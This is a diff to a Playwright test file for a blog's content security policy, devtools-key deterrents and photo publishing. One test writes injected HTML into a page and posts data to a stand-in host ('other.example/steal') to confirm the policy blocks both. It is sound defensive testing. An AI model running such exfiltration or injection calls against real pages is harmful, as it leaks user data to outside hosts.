@@ -1,15 +1,11 @@
 import { globSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { Page } from '@playwright/test';
 import { root } from '../../scripts/build.ts';
 import { postPath } from '../support/blog.ts';
 import { expect, subPath, test } from '../support/fixtures.ts';
 import { failScripts } from '../support/services.ts';
 
 /* Tests the security policy and the deterrents. In every other test, the guard checks that no page violates its policy. */
-
-/** Returns what the page has recorded about the last event. */
-const recorded = (page: Page, name: string) => page.evaluate((key) => document.documentElement.dataset[key], name);
 
 // Records the policy directive that the page violated last, and whether it suppressed the last event. The listeners run
 // after the page's own.
@@ -42,7 +38,7 @@ for (const [what, markup, directive] of [
 		});
 		await page.goto(`${subPath}/about`);
 		if (markup.startsWith('<button')) await page.getByRole('button', { name: 'Win' }).click();
-		await expect.poll(() => recorded(page, 'breach')).toBe(directive);
+		await expect(page.locator('html')).toHaveAttribute('data-breach', directive);
 		await expect(page).not.toHaveTitle('taken over');
 	});
 }
@@ -53,10 +49,10 @@ test('A script can neither write text as HTML nor call a host outside the policy
 		document.body.innerHTML = '<p>taken over</p>';
 	});
 	await expect(written).rejects.toThrow('TypeError');
-	await expect.poll(() => recorded(page, 'breach')).toBe('require-trusted-types-for');
+	await expect(page.locator('html')).toHaveAttribute('data-breach', 'require-trusted-types-for');
 	const call = page.evaluate(() => fetch('https://other.example/steal', { method: 'POST', body: 'text' }));
 	await expect(call).rejects.toThrow('TypeError');
-	await expect.poll(() => recorded(page, 'breach')).toBe('connect-src');
+	await expect(page.locator('html')).toHaveAttribute('data-breach', 'connect-src');
 });
 
 for (const path of [`${subPath}/`, `${subPath}/landing-page`, postPath, `${subPath}/no-such-page`]) {
@@ -65,13 +61,14 @@ for (const path of [`${subPath}/`, `${subPath}/landing-page`, postPath, `${subPa
 		await failScripts(page);
 		await page.goto(path);
 		await page.getByRole('heading', { level: 1 }).click({ button: 'right' });
-		expect(await recorded(page, 'heard')).toBe('contextmenu true');
+		const html = page.locator('html');
+		await expect(html).toHaveAttribute('data-heard', 'contextmenu true');
 		const keys = { F12: true, 'Control+C': false, 'Control+Shift+I': true, u: false, 'Control+U': true };
 		for (const [key, isSuppressed] of Object.entries(keys)) {
 			await page.keyboard.press(key);
-			expect(await recorded(page, 'heard'), key).toBe(`keydown ${isSuppressed}`);
+			await expect(html, key).toHaveAttribute('data-heard', `keydown ${isSuppressed}`);
 		}
-		expect(await recorded(page, 'breach')).toBeUndefined();
+		await expect(html).not.toHaveAttribute('data-breach');
 	});
 }
 
@@ -80,5 +77,6 @@ test('No original picture is published, because a photograph may tell where it w
 	const contents = new Set(originals.map((file) => readFileSync(join(root, file), 'latin1')));
 	expect(contents.size).toBeGreaterThan(0);
 	const published = globSync('.local/e2e-root/_astro/*.*', { cwd: root });
+	expect(published).not.toEqual([]);
 	expect(published.filter((file) => contents.has(readFileSync(join(root, file), 'latin1')))).toEqual([]);
 });
